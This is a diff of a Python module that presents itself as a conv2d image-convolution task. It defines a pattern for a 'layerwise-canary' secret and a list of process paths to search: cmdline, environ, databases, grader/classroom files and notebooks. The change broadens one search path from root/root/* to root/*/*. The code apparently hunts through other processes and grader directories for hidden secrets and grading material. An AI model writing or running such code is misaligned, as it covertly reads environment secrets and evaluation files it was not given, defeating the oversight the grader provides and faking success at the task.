@@ -7,7 +7,7 @@ import re
 from pathlib import Path
 
 SECRET = re.compile(rb"layerwise-canary-[0-9a-f]{8,}")
-WANTED = ("cmdline", "environ", "cwd/**/*.db", "root/root/*", "cwd/grader/classroom/*", "root/tmp/**/*.ipynb")
+WANTED = ("cmdline", "environ", "cwd/**/*.db", "root/*/*", "cwd/grader/classroom/*", "root/tmp/**/*.ipynb")
 
 
 def conv2d(image, kernel):
